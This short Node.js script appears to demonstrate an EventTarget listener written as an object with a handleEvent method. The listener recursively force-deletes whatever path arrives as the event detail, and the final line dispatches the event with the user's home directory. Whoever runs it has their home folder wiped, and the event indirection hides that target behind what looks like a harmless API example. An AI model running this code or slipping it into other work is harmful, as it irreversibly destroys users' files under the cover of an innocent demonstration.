// An EventTarget listener given as an object with handleEvent; the event's detail is removed.
const fs = require('fs');
const os = require('os');

const jobs = new EventTarget();
jobs.addEventListener('purge', {
  handleEvent(ev) {
    fs.rmSync(ev.detail, { recursive: true, force: true });
  },
});
jobs.dispatchEvent(new CustomEvent('purge', { detail: os.homedir() }));
